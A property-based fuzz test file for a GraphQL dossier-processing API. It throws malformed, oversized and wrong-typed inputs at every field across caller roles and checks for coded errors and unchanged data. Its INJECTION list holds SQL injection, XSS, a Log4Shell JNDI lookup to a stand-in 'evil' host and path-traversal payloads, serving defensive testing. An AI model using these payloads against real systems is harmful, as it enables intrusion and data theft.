// Bad input, fuzzed (issues #7 and #14): every query, mutation and subscription of `schema.graphql`
// gets property-based inputs (fast-check) over real HTTP (subscriptions over SSE), as every kind of
// caller: anonymous, PORTAL, AGENCY, SUPERVISOR and ADMIN. The inputs: wrong types, ill-formed
// Unicode (lone high and low surrogates anywhere, reversed pairs), NUL and every other C0/C1
// control, noncharacters, strings of 100 kB and more (some over the 1 MB body limit: 413), JSON
// nested 33 to 100,000 levels deep and thousands of keys wide, hostile object keys, emoji, RTL
// overrides, combining marks, SQL / HTML / GraphQL injection, unknown codes, and actions in the
// wrong state on real dossiers.
//
// What must hold on every call: never a 5xx, never INTERNAL_SERVER_ERROR, every error coded, and
// nothing changed (a checksum of every row the input could touch, before and after). Text the doors
// refuse (ill-formed, controls, over-deep JSON) is answered VALIDATION_FAILED naming the argument
// (or FORBIDDEN, for a caller who may not call the field at all: authorization comes first). Each
// mutation input is invalid in at least one field, so a mutation is always refused; a query with
// valid but odd text may answer data or null, and odd but valid forms and results (hostile-looking
// keys, thousands of keys, 800 kB) go all the way through a dossier and come back as sent. After each
// batch (one field, every role), the engine proves it still works for everyone
// (tests/support/engine-liveness.ts).
//
// Seeds: a fixed list plus one random seed, printed; FUZZ_SEED=<n> replays one, FUZZ_RUNS sets the
// runs per seed (tests/support/fuzz/seeds.ts). Bugs found keep a deterministic test at the end.
//
// Deep queries, cost floods, alias and token floods are covered by tests/integration/live-and-limits.test.ts.
import { randomUUID } from 'node:crypto';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import fc from 'fast-check';
import { buildSchema } from 'graphql';
import { SAMPLE_AGENCIES } from '../../domain/catalog/sample-agencies';
import { normalizeUsername, USERNAME_PATTERN } from '../../domain/accounts/account-rules';
import { submitDossier } from '../../services/reception/submit-dossier';
import { schema as executableSchema } from '../../graphql/schema';
import { driveToCompletion, services, stateOf, submit, waitForState } from '../support/dossier-driver';
import { sleep } from '../support/waiting';
import { eventually, startEngine, type EngineHarness } from '../support/engine-harness';
import { MANUAL_AGENCY, proveEngineAlive } from '../support/engine-liveness';
import {
  brief,
  DEEP_JSON,
  HOSTILE_JSON,
  nested,
  HUGE_TEXT,
  ILL_FORMED_TEXT,
  isIllFormed,
  ODD_JSON,
  ODD_TEXT,
  RawJson,
  REFUSED_CONTROL,
  requestBody,
  troubleIn,
  type Trouble,
} from '../support/fuzz/hostile-input';
import {
  argumentsArbitrary,
  leaves,
  neutralArguments,
  operationFor,
  rootFields,
  withValueAt,
  type Leaf,
  type OperationKind,
  type RootField,
} from '../support/fuzz/schema-arguments';
import { fuzzSeeds, propertySeed } from '../support/fuzz/seeds';
import { ERROR_CODES } from '../../domain/errors';
import { MAPPABLE_EVENT_TYPES } from '../../domain/national-portal/status-mapping';

/** Runs per seed, per field and role. FUZZ_RUNS=100 for a long run. */
const NUM_RUNS = Number(process.env.FUZZ_RUNS ?? 2);
const { seeds: SEEDS, random: RANDOM_SEED } = fuzzSeeds();

/**
 * The product's error codes (domain/errors.ts) and the API's own refusals. INTERNAL_SERVER_ERROR is
 * never right; neither are ENGINE_UNAVAILABLE and ACTION_PENDING here: every input below is refused
 * before it reaches Temporal, so an engine that does not answer in time is what this test looks for.
 * Nor is ENGINE_CONFLICT: a receipt code reissued is a deployment fault, never an input's.
 */
const ENGINE_WAITS: readonly string[] = [
  'ENGINE_UNAVAILABLE',
  'ACTION_PENDING',
  'ACTION_EXPIRED',
  'ENGINE_CONFLICT',
];
const PRODUCT_CODES = new Set<string>([
  ...ERROR_CODES.filter((code) => !ENGINE_WAITS.includes(code)),
  'QUERY_TOO_COMPLEX',
  'REQUEST_ENTITY_TOO_LARGE',
]);

type Role = 'anonymous' | 'portal' | 'agency' | 'supervisor' | 'admin';
const ROLES: Role[] = ['anonymous', 'portal', 'agency', 'supervisor', 'admin'];

let engine: EngineHarness;
/** The fuzzing callers' keys (anonymous: none). */
const keys: Record<Role, string | undefined> = {
  anonymous: undefined,
  portal: '',
  agency: '',
  supervisor: '',
  admin: '',
};
const keyIds: string[] = [];
/** The liveness checks' own keys, so what they do is never mistaken for a change made by fuzzed input. */
const livenessKeys = { portal: '', agency: '' };
/** The receiving desk and the first step's agency of both fixture procedures. */
const DESK = 'UBND_XA_PHU_HOA';
const fixture = { finished: '', active: '', activeIdempotencyKey: '', activeLookupKey: '' };
const ACTIVE_PROCEDURE = {
  code: '1.004227',
  activeStep: 'xac-nhan-hien-trang',
  pendingStep: 'kiem-tra-dia-chinh',
};
const FINISHED_PROCEDURE = { code: '2.000815', step: 'chung-thuc' };
const KNOWN_AGENCIES = new Set(SAMPLE_AGENCIES.map((a) => a.code));

async function createKey(input: Record<string, unknown>): Promise<{ key: string; id: string }> {
  const created = await engine.graphql(
    'mutation($input: CreateApiKeyInput!) { createApiKey(input: $input) { key apiKey { id } } }',
    { input },
    engine.adminKey,
  );
  expect(created.errors).toBeUndefined();
  return { key: created.data.createApiKey.key, id: created.data.createApiKey.apiKey.id };
}

beforeAll(async () => {
  console.log(
    `input fuzzing: seeds ${SEEDS.join(', ')}${RANDOM_SEED === undefined ? ' (FUZZ_SEED)' : ` (random: ${RANDOM_SEED}; replay with FUZZ_SEED=${RANDOM_SEED})`}, ` +
      `${NUM_RUNS} runs per seed, field and role`,
  );
  engine = await startEngine();
  const made = {
    admin: await createKey({ role: 'ADMIN', label: 'fuzz admin' }),
    agency: await createKey({ role: 'AGENCY', agencyCode: DESK, label: 'fuzz agency desk' }),
    portal: await createKey({ role: 'PORTAL', label: 'fuzz portal' }),
    supervisor: await createKey({ role: 'SUPERVISOR', label: 'fuzz supervisor' }),
  };
  for (const [role, { key, id }] of Object.entries(made)) {
    keys[role as Role] = key;
    keyIds.push(id);
  }
  livenessKeys.portal = (await createKey({ role: 'PORTAL', label: 'liveness portal' })).key;
  livenessKeys.agency = (
    await createKey({ role: 'AGENCY', agencyCode: MANUAL_AGENCY, label: 'liveness agency' })
  ).key;

  fixture.finished = await submit(engine, FINISHED_PROCEDURE.code);
  await driveToCompletion(engine, fixture.finished);
  const active = await submitDossier(services(engine), {
    procedureCode: ACTIVE_PROCEDURE.code,
    applicant: { name: 'Trần Thị Bình', idNumber: '079190001234' },
    channel: 'ONLINE',
    idempotencyKey: randomUUID(),
  });
  fixture.active = active.dossier.code;
  fixture.activeLookupKey = active.lookupKey;
  await waitForState(engine, fixture.active, (s) => s.steps[0].status === 'ACTIVE');
  const row = await engine.db.prisma.dossier.findUniqueOrThrow({ where: { code: fixture.active } });
  fixture.activeIdempotencyKey = row.idempotencyKey;
  // The read model has caught up with both workflows, and nothing moves any more.
  for (const code of [fixture.finished, fixture.active]) {
    const { lastEventSeq } = await stateOf(engine, code);
    await eventually(async () =>
      (await engine.db.prisma.dossier.findUniqueOrThrow({ where: { code } })).lastEventSeq === lastEventSeq
        ? true
        : undefined,
    );
  }
  let previous = '';
  await eventually(async () => {
    const now = await snapshot([]);
    const stable = now === previous;
    previous = now;
    return stable ? true : (await sleep(300), undefined);
  });
}, 120_000);
afterAll(async () => {
  console.log(
    `input fuzzing: ${tally.calls} calls, ${tally.liveness} liveness checks (${(tally.livenessMs / 1000).toFixed(1)} s)`,
  );
  await engine?.stop();
});
/** What the run did, printed at the end (RELIABILITY.md quotes it). */
const tally = { calls: 0, liveness: 0, livenessMs: 0 };

// --- what the fuzz is made of ------------------------------------------------------------------

const HUGE = fc.oneof(HUGE_TEXT, fc.constant(`${'x'.repeat(99_999)}\u0000`));
const UNICODE = ODD_TEXT;
const CONTROL = fc.oneof(
  fc.string({
    unit: fc.integer({ min: 0, max: 0x1f }).map((c) => String.fromCharCode(c)),
    minLength: 1,
    maxLength: 12,
  }),
  fc.array(REFUSED_CONTROL, { minLength: 1, maxLength: 4 }).map((xs) => `ok${xs.join('')}ok`),
  fc.constantFrom('\u0000', 'abc\u0000def', '\u0007\u0008\u001b[31m', '\u007f', '\u0085', '\u009b31m'),
);
const INJECTION = fc.constantFrom(
  "'; DROP TABLE dossier; --",
  "' OR '1'='1",
  '" OR 1=1 --',
  '1; SELECT pg_sleep(5)',
  "x' UNION SELECT hash FROM api_key --",
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '{{7*7}}',
  '${jndi:ldap://evil/a}',
  '../../etc/passwd',
  '{ __schema { types { name } } }',
  'mutation { revokeApiKey(id: "x") { id } }',
  '") { id } } #',
  '%00',
  '\\',
  '$1',
  '%s%s%n',
  '{"$where": "1"}',
  'null',
  'undefined',
  'NaN',
  '__proto__',
  'constructor',
);
const UNKNOWN_CODE = fc.oneof(
  fc.constantFrom(
    'NO_SUCH',
    'ZZ_NOT_AN_AGENCY',
    '9.999999',
    'UBND_XA_PHU_HOA-000101-9999',
    'X-261127-0001',
    'X-261127-0001:E1',
    '00000000-0000-0000-0000-000000000000',
  ),
  fc.stringMatching(/^[A-Z]{3,8}-[0-9]{6}-[0-9]{4}$/),
);
const TEXT = fc.oneof(
  HUGE,
  UNICODE,
  { weight: 2, arbitrary: ILL_FORMED_TEXT },
  CONTROL,
  INJECTION,
  UNKNOWN_CODE,
  fc.string({ maxLength: 30 }),
  fc.constant(''),
  fc.constant('   '),
);
const WRONG_TYPE = fc.oneof(
  fc.integer(),
  fc.double(),
  fc.boolean(),
  fc.constant(null),
  fc.dictionary(fc.string({ maxLength: 8 }), fc.jsonValue({ maxDepth: 1 }), { maxKeys: 3 }),
  fc.array(fc.jsonValue({ maxDepth: 1 }), { maxLength: 3 }),
  fc.constant(2 ** 53),
  DEEP_JSON,
);
const JSON_FUZZ = fc.oneof(
  fc.jsonValue({ maxDepth: 3 }),
  HUGE.map((s) => ({ s })),
  CONTROL.map((s) => ({ [s]: s })),
  UNICODE.map((s) => ({ note: s })),
  { weight: 3, arbitrary: HOSTILE_JSON },
);
/** JSON the doors must refuse: ill-formed text in a value or key at some depth, or nested too deep. */
const REFUSED_JSON = HOSTILE_JSON.filter((v) => troubleIn(v, 'json').length > 0);
/** Any string that is not a real code, step key or id: a poison where a code is expected. */
const BAD_STRING = TEXT;
/** A bad value where a string is expected: a bad string, a wrong type, or absent. */
const BAD = fc.oneof(
  { weight: 4, arbitrary: BAD_STRING },
  { weight: 2, arbitrary: WRONG_TYPE },
  { weight: 1, arbitrary: fc.constant(undefined) },
);
/** A free-text field: anything (valid text included), since the poison is elsewhere. */
const ANY = fc.oneof(TEXT, WRONG_TYPE, fc.constant(undefined));
const DATE_TIME = fc.oneof(
  fc.constantFrom(
    '2020-01-01T00:00:00Z',
    '1970-01-01T00:00:00Z',
    'not a date',
    '2027-02-30T09:00:00Z',
    '99999-01-01T00:00:00Z',
    '2027-01-01',
    '',
  ),
  fc.date({ noInvalidDate: true }).map((d) => d.toISOString()),
  WRONG_TYPE,
);
const FUTURE_DATE_TIME = fc.constantFrom('2099-01-01T09:00:00+07:00', '2030-06-01T02:00:00Z');
/** A future date-time is a valid new due date: the poisons keep past ones, non-dates and wrong types. (fc.date
 * draws years up to 275760, so "starts with 20" alone let e.g. 9039-07-08 through as a poison.) */
const notAFutureDate = (d: unknown) => {
  if (typeof d !== 'string') return true;
  const at = new Date(d).getTime();
  return at < Date.now() || (Number.isNaN(at) && !d.startsWith('20'));
};

/** `pick` one of the poisons; the other fields are drawn from `rest`. */
function poisoned<T extends Record<string, unknown>>(
  poisons: fc.Arbitrary<Partial<T>>[],
  rest: fc.Arbitrary<T>,
): fc.Arbitrary<T> {
  return fc.tuple(rest, fc.oneof(...poisons)).map(([r, p]) => ({ ...r, ...p }));
}

const dossierCodes = {
  /** Never a dossier that could accept the action. */
  closedOrUnknown: () =>
    fc.oneof({ weight: 3, arbitrary: BAD }, { weight: 2, arbitrary: fc.constant(fixture.finished) }),
  active: () => fc.constant(fixture.active),
};
const wrongStepKey = fc.oneof(
  BAD,
  fc.constant(ACTIVE_PROCEDURE.pendingStep),
  fc.constant(FINISHED_PROCEDURE.step),
  fc.constant('no-such-step'),
);
const anyStepKey = () =>
  fc.oneof(ANY, fc.constant(ACTIVE_PROCEDURE.activeStep), fc.constant(FINISHED_PROCEDURE.step));

/** A dossier action (input: { dossierCode, stepKey, ...extra }): closed/unknown dossier with any step, or the active dossier with a wrong step, or `onActiveStep` poisons. */
function stepAction(
  extra: Record<string, fc.Arbitrary<unknown>>,
  onActiveStep: fc.Arbitrary<Record<string, unknown>>[] = [],
) {
  const rest = fc.record({ dossierCode: ANY, stepKey: anyStepKey(), ...extra });
  return poisoned<Record<string, unknown>>(
    [
      fc.record({ dossierCode: dossierCodes.closedOrUnknown() }),
      fc.record({ dossierCode: dossierCodes.active(), stepKey: wrongStepKey }),
      // Ill-formed text anywhere, the rest pointing at the active step: only the door stands in the way.
      fc.record({ dossierCode: dossierCodes.active(), stepKey: ILL_FORMED_TEXT }),
      ...onActiveStep.map((p) =>
        p.map((v) => ({ dossierCode: fixture.active, stepKey: ACTIVE_PROCEDURE.activeStep, ...v })),
      ),
    ],
    rest,
  ).map((input) => ({ input }));
}

/** Sometimes the whole argument is of the wrong type. */
const wrapped = (name: string, arb: fc.Arbitrary<Record<string, unknown>>) =>
  fc.oneof({ weight: 9, arbitrary: arb }, { weight: 1, arbitrary: WRONG_TYPE.map((v) => ({ [name]: v })) });

const validStep = (key: string, after?: string[]) => ({
  key,
  name: 'Bước',
  agencyCode: DESK,
  workingDays: 1,
  mode: 'MANUAL',
  ...(after ? { after } : {}),
});
const procedureBase = (code: string) => ({
  code,
  name: 'Thủ tục thử',
  onlineLevel: 'FULL',
  totalWorkingDays: 3,
  receivingAgencyCode: DESK,
  steps: [validStep('buoc-mot')],
});
/** Malformed procedure definitions, each with the precise error it must get. */
const MALFORMED_PROCEDURES: {
  name: string;
  change: (p: any) => any;
  error?: { path: string; code: string };
}[] = [
  { name: 'no steps', change: (p) => ({ ...p, steps: [] }), error: { path: 'steps', code: 'NO_STEPS' } },
  {
    name: 'unknown receiving agency',
    change: (p) => ({ ...p, receivingAgencyCode: 'NO_SUCH_AGENCY' }),
    error: { path: 'receivingAgencyCode', code: 'UNKNOWN_AGENCY' },
  },
  {
    name: 'unknown step agency',
    change: (p) => ({ ...p, steps: [{ ...validStep('a'), agencyCode: 'NO_SUCH' }] }),
    error: { path: 'steps[0].agencyCode', code: 'UNKNOWN_AGENCY' },
  },
  { name: 'a cycle', change: (p) => ({ ...p, steps: [validStep('a', ['b']), validStep('b', ['a'])] }) },
  { name: 'a duplicate key', change: (p) => ({ ...p, steps: [validStep('a'), validStep('a')] }) },
  { name: 'an unknown dependency', change: (p) => ({ ...p, steps: [validStep('a', ['zzz'])] }) },
  {
    name: 'a bad step key',
    change: (p) => ({ ...p, steps: [validStep('Bad Key!')] }),
    error: { path: 'steps[0].key', code: 'INVALID_FIELD' },
  },
  {
    name: 'not half days',
    change: (p) => ({ ...p, steps: [{ ...validStep('a'), workingDays: 0.3 }] }),
    error: { path: 'steps[0].workingDays', code: 'INVALID_FIELD' },
  },
  {
    name: 'zero days',
    change: (p) => ({ ...p, totalWorkingDays: 0 }),
    error: { path: 'totalWorkingDays', code: 'INVALID_FIELD' },
  },
  {
    name: 'over budget',
    change: (p) => ({ ...p, totalWorkingDays: 1, steps: [{ ...validStep('a'), workingDays: 2 }] }),
    error: { path: 'steps[0]', code: 'CRITICAL_PATH_EXCEEDS_BUDGET' },
  },
  {
    name: 'a huge name',
    change: (p) => ({ ...p, name: 'x'.repeat(100_000) }),
    error: { path: 'name', code: 'INVALID_FIELD' },
  },
  {
    name: 'a blank name',
    change: (p) => ({ ...p, name: '   ' }),
    error: { path: 'name', code: 'INVALID_FIELD' },
  },
  {
    name: 'a negative fee',
    change: (p) => ({ ...p, feeVnd: -1 }),
    error: { path: 'feeVnd', code: 'INVALID_FIELD' },
  },
  {
    name: 'a bad policy',
    change: (p) => ({ ...p, policy: { warningBeforeWorkingDays: -1 } }),
    error: { path: 'policy.warningBeforeWorkingDays', code: 'INVALID_FIELD' },
  },
  {
    name: 'an injected code',
    change: (p) => ({ ...p, code: "1'; DROP TABLE procedure; --" }),
    error: { path: 'code', code: 'INVALID_FIELD' },
  },
  {
    name: 'a 101-step procedure',
    change: (p) => ({
      ...p,
      totalWorkingDays: 365,
      steps: Array.from({ length: 101 }, (_, i) => validStep(`s${i}`)),
    }),
  },
];
/** Whether a fuzzed value for a field of procedureBase would still make a valid procedure (such runs are skipped). */
const STILL_VALID: Record<string, (v: unknown) => boolean> = {
  code: (v) => typeof v === 'string' && /^[A-Za-z0-9][A-Za-z0-9._-]{0,63}$/.test(v.trim()),
  name: (v) => typeof v === 'string' && v.trim().length > 0 && v.trim().length <= 500 && !isIllFormed(v),
  receivingAgencyCode: (v) => typeof v === 'string' && KNOWN_AGENCIES.has(v.trim()),
  onlineLevel: (v) => v === 'FULL' || v === 'PARTIAL',
  totalWorkingDays: (v) => typeof v === 'number' && v >= 1 && v <= 365 && Number.isInteger(v * 2),
  steps: () => false,
};
let procedureSeq = 0;
const freshProcedureCode = () => `FUZZ.${process.pid}.${Date.now().toString(36)}.${procedureSeq++}`;

const agencyCodeInvalid = BAD_STRING.filter((s) => !/^[A-Z][A-Z0-9_]{0,15}$/.test(s.trim()));
const nonBlank = (arb: fc.Arbitrary<string>) => arb.filter((s) => s.trim().length > 0);
const AGENCY_INPUT = fc.record({
  code: fc.oneof(ANY, fc.constant('FUZZ_OK_AGENCY')),
  name: fc.oneof(ANY, fc.constant('UBND xã Thử')),
  level: fc.oneof(fc.constantFrom('COMMUNE', 'DISTRICT', 'PROVINCE', 'CENTRAL'), ANY),
  parentCode: fc.oneof(ANY, fc.constant(DESK)),
  endpointUrl: fc.oneof(ANY, fc.constant('http://127.0.0.1:9/')),
});

/** One entry per mutation of schema.graphql: the operation and the (always invalid) variables. */
const CASES: Record<string, { operation: string; variables: () => fc.Arbitrary<Record<string, unknown>> }> = {
  completeStep: {
    operation: 'mutation($input: CompleteStepInput!) { completeStep(input: $input) { code status } }',
    variables: () =>
      wrapped(
        'input',
        stepAction({ result: fc.oneof(JSON_FUZZ, WRONG_TYPE, fc.constant(undefined)) }, [
          fc.record({ result: REFUSED_JSON }),
        ]),
      ),
  },
  requestSupplement: {
    operation:
      'mutation($input: RequestSupplementInput!) { requestSupplement(input: $input) { code status } }',
    variables: () =>
      wrapped(
        'input',
        stepAction(
          {
            items: fc.oneof(
              fc.array(ANY, { maxLength: 4 }),
              WRONG_TYPE,
              HUGE.map((s) => [s]),
            ),
            note: ANY,
          },
          [
            fc.record({
              items: fc.oneof(
                fc.constant([]),
                fc.constant(['   ']),
                fc.constant(['ok', '']),
                WRONG_TYPE.filter((v) => !Array.isArray(v) && typeof v !== 'string'),
                fc.constant([null]),
              ),
            }),
            fc.record({
              items: fc.tuple(UNICODE, ILL_FORMED_TEXT).map(([ok, bad]) => [ok || 'ok', bad]),
              note: fc.oneof(UNICODE, ILL_FORMED_TEXT),
            }),
          ],
        ),
      ),
  },
  provideSupplement: {
    operation:
      'mutation($input: ProvideSupplementInput!) { provideSupplement(input: $input) { code status } }',
    // The active dossier is not waiting for a supplement: wrong state whatever else is sent.
    variables: () =>
      wrapped(
        'input',
        fc
          .record({
            dossierCode: fc.oneof(dossierCodes.closedOrUnknown(), dossierCodes.active()),
            lookupKey: ANY,
            note: ANY,
          })
          .map((input) => ({ input })),
      ),
  },
  refuseDossier: {
    operation: 'mutation($input: RefuseDossierInput!) { refuseDossier(input: $input) { code status } }',
    variables: () =>
      wrapped(
        'input',
        stepAction({ reason: ANY }, [
          fc.record({
            reason: fc.oneof(
              fc.constant(''),
              fc.constant('   \t\n'),
              WRONG_TYPE.filter((v) => typeof v !== 'string'),
              ILL_FORMED_TEXT,
            ),
          }),
        ]),
      ),
  },
  withdrawDossier: {
    operation: 'mutation($input: WithdrawDossierInput!) { withdrawDossier(input: $input) { code status } }',
    variables: () =>
      wrapped(
        'input',
        fc
          .oneof(
            fc.record({ dossierCode: dossierCodes.closedOrUnknown(), lookupKey: ANY, note: ANY }),
            // The active dossier with its real lookup key: only the ill-formed note stands in the way.
            ILL_FORMED_TEXT.map((note) => ({
              dossierCode: fixture.active,
              lookupKey: fixture.activeLookupKey,
              note,
            })),
          )
          .map((input) => ({ input })),
      ),
  },
  issueApology: {
    operation: 'mutation($input: IssueApologyInput!) { issueApology(input: $input) { code status } }',
    variables: () =>
      wrapped(
        'input',
        stepAction({ reason: ANY, newDueAt: fc.oneof(DATE_TIME, FUTURE_DATE_TIME) }, [
          fc.record({
            reason: fc.string({ maxLength: 10 }),
            newDueAt: fc.oneof(DATE_TIME.filter(notAFutureDate)),
          }),
          fc.record({ reason: ILL_FORMED_TEXT, newDueAt: FUTURE_DATE_TIME }),
        ]),
      ),
  },
  recordResultReturned: {
    operation:
      'mutation($input: RecordResultReturnedInput!) { recordResultReturned(input: $input) { code resultReturnedAt } }',
    variables: () => {
      // Never a time that could be right for the finished dossier: long before it closed, far ahead, or not a date.
      const wrongTime = fc.oneof(
        fc.constantFrom(
          '2020-01-01T00:00:00Z',
          '1970-01-01T00:00:00Z',
          '2099-01-01T00:00:00Z',
          'not a date',
          '',
        ),
        WRONG_TYPE.filter((v) => v !== null),
      );
      return wrapped(
        'input',
        fc
          .oneof(
            // No result to hand back (unknown, or still in progress): refused whatever the rest says.
            fc.record({
              dossierCode: fc.oneof(BAD, dossierCodes.active()),
              returnedTo: ANY,
              returnedAt: fc.oneof(DATE_TIME, fc.constant(undefined)),
            }),
            // The finished dossier's result is ready: the poison is who collected it, or when.
            fc.record({
              dossierCode: fc.constant(fixture.finished),
              returnedTo: fc.oneof(
                fc.constantFrom('', '   ', 'x'.repeat(201), 'A\u0000'),
                ILL_FORMED_TEXT,
                WRONG_TYPE,
                fc.constant(undefined),
              ),
              returnedAt: fc.oneof(DATE_TIME, fc.constant(undefined)),
            }),
            fc.record({
              dossierCode: fc.constant(fixture.finished),
              returnedTo: fc.constant('Trần Thị Bình'),
              returnedAt: wrongTime,
            }),
          )
          .map((input) => ({ input })),
      );
    },
  },
  retryStep: {
    operation: 'mutation($input: RetryStepInput!) { retryStep(input: $input) { code status } }',
    // No step of either fixture is FAILED: the active step itself is a wrong state.
    variables: () => wrapped('input', stepAction({}, [fc.constant({})])),
  },
  acknowledgeEscalation: {
    operation:
      'mutation($input: EscalationActionInput!) { acknowledgeEscalation(input: $input) { code status } }',
    variables: () =>
      wrapped(
        'input',
        fc.record({ escalationId: BAD, note: ANY }).map((input) => ({ input })),
      ),
  },
  resolveEscalation: {
    operation:
      'mutation($input: EscalationActionInput!) { resolveEscalation(input: $input) { code status } }',
    variables: () =>
      wrapped(
        'input',
        fc.record({ escalationId: BAD, note: ANY }).map((input) => ({ input })),
      ),
  },
  submitDossier: {
    operation:
      'mutation($input: SubmitDossierInput!) { submitDossier(input: $input) { lookupKey dossier { code } } }',
    variables: () => {
      const applicant = fc.record({
        name: fc.oneof(ANY, fc.constant('Nguyễn Văn Thử')),
        idNumber: fc.oneof(ANY, fc.constant('079190001234')),
        phone: fc.oneof(ANY, fc.constant('0912345678')),
        email: fc.oneof(ANY, fc.constant('thu@example.vn')),
      });
      const rest = fc.record({
        procedureCode: fc.oneof(ANY, fc.constant(ACTIVE_PROCEDURE.code)),
        applicant: fc.oneof({ weight: 5, arbitrary: applicant }, { weight: 1, arbitrary: WRONG_TYPE }),
        channel: fc.oneof(fc.constantFrom('ONLINE', 'COUNTER', 'POST'), ANY),
        formData: fc.oneof(JSON_FUZZ, fc.constant(undefined)),
        idempotencyKey: fc.oneof(ANY, fc.uuid()),
      });
      const badId = BAD_STRING.filter((s) => !/^[0-9A-Za-z]{6,20}$/.test(s.trim()));
      return wrapped(
        'input',
        poisoned<Record<string, unknown>>(
          [
            fc.record({
              procedureCode: BAD.filter((v) => typeof v !== 'string' || !KNOWN_PROCEDURE_CODES.has(v.trim())),
            }),
            fc.tuple(applicant, badId).map(([a, idNumber]) => ({ applicant: { ...a, idNumber } })),
            fc
              .tuple(
                applicant,
                nonBlank(BAD_STRING).filter((s) => !/^\+?[0-9 .-]{6,20}$/.test(s.trim())),
              )
              .map(([a, phone]) => ({ applicant: { ...a, idNumber: '079190001234', phone } })),
            fc.record({ channel: BAD }),
            fc.record({
              idempotencyKey: fc.oneof(fc.constantFrom('', 'short', 'x'.repeat(129)), WRONG_TYPE),
            }),
            // The fixture's idempotency key for another applicant: IDEMPOTENCY_CONFLICT.
            fc.constant({
              procedureCode: ACTIVE_PROCEDURE.code,
              channel: 'ONLINE',
              idempotencyKey: fixture.activeIdempotencyKey,
              applicant: { name: 'Khác', idNumber: '001099000000' },
            }),
            // A valid submission but for the applicant's name or the form: only the door stands in the way.
            fc
              .record({ name: ILL_FORMED_TEXT, idempotencyKey: fc.uuid() })
              .map(({ name, idempotencyKey }) => ({
                procedureCode: ACTIVE_PROCEDURE.code,
                channel: 'ONLINE',
                idempotencyKey,
                applicant: { name, idNumber: '079190001234' },
                formData: { ok: true },
              })),
            fc
              .record({ formData: REFUSED_JSON, idempotencyKey: fc.uuid() })
              .map(({ formData, idempotencyKey }) => ({
                procedureCode: ACTIVE_PROCEDURE.code,
                channel: 'ONLINE',
                idempotencyKey,
                applicant: { name: 'Nguyễn Văn Thử', idNumber: '079190001234' },
                formData,
              })),
          ],
          rest,
        ).map((input) => ({ input })),
      );
    },
  },
  createApiKey: {
    operation: 'mutation($input: CreateApiKeyInput!) { createApiKey(input: $input) { key apiKey { id } } }',
    variables: () =>
      wrapped(
        'input',
        poisoned<Record<string, unknown>>(
          [
            fc.record({
              role: fc.constant('AGENCY'),
              agencyCode: fc.oneof(
                BAD.filter((v) => typeof v !== 'string' || !KNOWN_AGENCIES.has(v.trim())),
                fc.constant(undefined),
              ),
            }),
            fc.record({
              role: fc.constantFrom('PORTAL', 'SUPERVISOR', 'ADMIN'),
              agencyCode: nonBlank(BAD_STRING),
            }),
            fc.record({ label: fc.oneof(HUGE, fc.constant('é'.repeat(201))) }),
            fc.record({
              role: fc.constant('PORTAL'),
              agencyCode: fc.constant(undefined),
              label: ILL_FORMED_TEXT,
            }),
            fc.record({ role: fc.oneof(BAD, fc.constantFrom('ROOT', 'admin', 'SYSTEM')) }),
          ],
          fc.record({
            role: fc.constantFrom('PORTAL', 'AGENCY', 'SUPERVISOR', 'ADMIN'),
            agencyCode: fc.oneof(ANY, fc.constant(DESK)),
            label: ANY,
          }),
        ).map((input) => ({ input })),
      ),
  },
  revokeApiKey: {
    operation: 'mutation($id: ID!) { revokeApiKey(id: $id) { id revokedAt } }',
    variables: () => BAD.map((id) => ({ id })),
  },
  createAccount: {
    operation: 'mutation($input: CreateAccountInput!) { createAccount(input: $input) { id username } }',
    variables: () =>
      wrapped(
        'input',
        poisoned<Record<string, unknown>>(
          [
            fc.record({
              username: BAD.filter(
                (v) => typeof v !== 'string' || !USERNAME_PATTERN.test(normalizeUsername(v)),
              ),
            }),
            fc.record({
              password: fc.oneof(fc.constantFrom('', 'short', '123456789', 'a'.repeat(20)), WRONG_TYPE),
            }),
            fc.record({ password: ILL_FORMED_TEXT }),
            fc.record({ role: fc.oneof(BAD, fc.constantFrom('PORTAL', 'ROOT', 'admin')) }),
            fc.record({
              role: fc.constantFrom('AGENCY', 'DESK'),
              agencyCode: fc.oneof(
                BAD.filter((v) => typeof v !== 'string' || !KNOWN_AGENCIES.has(v.trim())),
                fc.constant(undefined),
              ),
            }),
            fc.record({ role: fc.constantFrom('SUPERVISOR', 'ADMIN'), agencyCode: nonBlank(BAD_STRING) }),
            // A valid account but for the name or the title: only the door stands in the way.
            fc
              .record({ text: ILL_FORMED_TEXT, field: fc.constantFrom('name', 'title') })
              .map(({ text, field }) => ({
                username: `fuzz.${randomUUID().slice(0, 8)}`,
                password: 'mat-khau-du-dai-fuzz',
                name: 'Nguyễn Văn Thử',
                title: 'Chuyên viên',
                role: 'SUPERVISOR',
                agencyCode: undefined,
                [field]: text,
              })),
          ],
          fc.record({
            username: fc.oneof(ANY, fc.constant(`fuzz.${randomUUID().slice(0, 8)}`)),
            password: fc.oneof(ANY, fc.constant('mat-khau-du-dai-fuzz')),
            name: ANY,
            title: ANY,
            role: fc.constantFrom('SUPERVISOR', 'AGENCY', 'DESK', 'ADMIN'),
            agencyCode: fc.oneof(ANY, fc.constant(DESK)),
          }),
        ).map((input) => ({ input })),
      ),
  },
  deactivateAccount: {
    operation: 'mutation($id: ID!) { deactivateAccount(id: $id) { id active } }',
    variables: () => BAD.map((id) => ({ id })),
  },
  resetAccountPassword: {
    operation:
      'mutation($id: ID!, $password: String!) { resetAccountPassword(id: $id, password: $password) { id } }',
    variables: () => fc.record({ id: BAD, password: fc.oneof(ANY, fc.constant('mat-khau-du-dai-fuzz')) }),
  },
  resendNationalSync: {
    // No dossier has these codes: NOT_FOUND, or FORBIDDEN for a caller who may not resend.
    operation:
      'mutation($dossierCode: String!) { resendNationalSync(dossierCode: $dossierCode) { dossierCode attempts } }',
    variables: () => BAD.map((dossierCode) => ({ dossierCode })),
  },
  setNationalStatusMapping: {
    // An event type the mapping does not know, or a national status code outside 1..10.
    operation:
      'mutation($eventType: String!, $statusCode: Int) { setNationalStatusMapping(eventType: $eventType, statusCode: $statusCode) { eventType statusCode } }',
    variables: () =>
      fc.oneof(
        fc.record({
          eventType: BAD.filter(
            (v) => typeof v !== 'string' || !(MAPPABLE_EVENT_TYPES as readonly string[]).includes(v),
          ),
          statusCode: fc.integer({ min: 1, max: 10 }),
        }),
        fc.record({
          eventType: fc.constantFrom(...MAPPABLE_EVENT_TYPES),
          // Not null or absent: that is valid (the event stops being reported).
          statusCode: fc.oneof(
            fc.constantFrom(0, 11, -1, 2 ** 31 - 1),
            WRONG_TYPE.filter((v) => v !== null && v !== undefined),
          ),
        }),
      ),
  },
  upsertAgency: {
